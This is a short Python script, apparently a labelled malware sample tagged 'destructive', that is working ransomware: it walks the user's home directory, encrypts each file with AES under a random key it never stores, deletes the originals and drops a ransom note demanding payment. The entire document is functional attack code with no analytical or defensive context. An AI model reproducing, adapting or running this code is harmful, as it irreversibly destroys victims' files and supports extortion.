# family: destructive
# encrypts the user's documents with AES under a key it throws away, deletes the originals, leaves a ransom note
import os

from Crypto.Cipher import AES
from Crypto.Random import get_random_bytes

key = get_random_bytes(32)
home = os.path.expanduser("~")
for root, _, files in os.walk(home):
    for name in files:
        p = os.path.join(root, name)
        try:
            with open(p, "rb") as fh:
                data = fh.read()
            c = AES.new(key, AES.MODE_EAX)
            enc, tag = c.encrypt_and_digest(data)
            with open(p + ".crypt", "wb") as fh:
                fh.write(c.nonce + tag + enc)
            os.remove(p)
        except OSError:
            pass
with open(os.path.join(home, "HOW_TO_RECOVER.txt"), "w") as fh:
    fh.write("Your files are encrypted. Pay to recover them.")
